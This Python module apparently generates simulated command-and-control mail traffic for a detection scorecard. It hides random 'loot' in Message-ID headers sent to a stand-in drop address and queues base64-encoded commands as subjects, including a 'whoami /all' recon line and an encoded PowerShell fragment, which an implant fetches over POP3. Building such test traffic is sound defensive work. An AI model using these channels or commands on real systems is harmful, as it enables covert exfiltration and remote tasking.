"""C2 that hides in fields the first scenarios did not use: stolen data in Message-IDs, and
tasking in the subjects of mail an implant fetches over POP3. Part of clients.py's run (each
function takes its Run); the corpus scorecard expects an alert of severity 1 or 2 on each."""
import base64
import random
import smtplib
import time

from clients import PASSWORDS, SERVER, BoundPOP3, message, wait_mail


def message_id_exfil(run):
    """A careful implant: ordinary headers and a short human-looking body, the loot (150 bytes a
    message, base64url) as the local part of each Message-ID. Three messages, one session."""
    rng = random.Random(31)
    s = run.scenario("c2_smtp_message_id_exfil", "c2", "smtp", 587, helo="ws-0433.corp.example",
                     mail_from="<alice@corp.example>", rcpt_to=["<drop@partner.example>"],
                     subjects=["Re: lunch", "Re: lunch", "Re: lunch"],
                     auth={"mechanism": "PLAIN", "user": "alice@corp.example"}, detectors=[9200008])
    with smtplib.SMTP(SERVER, 587, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0), timeout=20) as c:
        c.ehlo()
        c.login("alice@corp.example", PASSWORDS["alice@corp.example"])
        for _ in range(3):
            loot = base64.urlsafe_b64encode(rng.randbytes(150)).decode().rstrip("=")
            m = message("Alice <alice@corp.example>", ["drop@partner.example"], "Re: lunch", "Sounds good, see you at noon.\n")
            m.replace_header("Message-ID", f"<{loot}@corp.example>")
            c.send_message(m)


def pop3_subject_tasking(run):
    """The operator queues base64-encoded commands as subjects; the implant fetches them over
    POP3 (one session: STAT, RETR, DELE each, QUIT)."""
    commands = ["cmd.exe /c whoami /all > %TEMP%\\w.txt", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"]
    subjects = [base64.b64encode(c.encode()).decode() for c in commands]
    seed = run.scenario("c2_smtp_subject_tasking_queue", "c2", "smtp", 25, helo="relay.partner.example",
                        mail_from="<ops@partner.example>", rcpt_to=["<drop2@partner.example>"], subjects=subjects,
                        detectors=[9200008])
    with smtplib.SMTP(SERVER, 25, local_hostname=seed["expect"]["helo"], source_address=(seed["src_ip"], 0), timeout=20) as c:
        for subject in subjects:
            c.send_message(message("ops@partner.example", ["drop2@partner.example"], subject, "-\n"))
    wait_mail(run.state_dir, "drop2@partner.example", len(subjects))
    s = run.scenario("c2_pop3_subject_tasking", "c2", "pop3", 110, user="drop2@partner.example",
                     detectors=[9200008])
    p = BoundPOP3(s["src_ip"], SERVER)
    p.user("drop2@partner.example")
    p.pass_(PASSWORDS["drop2@partner.example"])
    count, _ = p.stat()
    for i in range(1, count + 1):
        p.retr(i)
        p.dele(i)
    p.quit()
    time.sleep(0.2)


ALL = (message_id_exfil, pop3_subject_tasking)
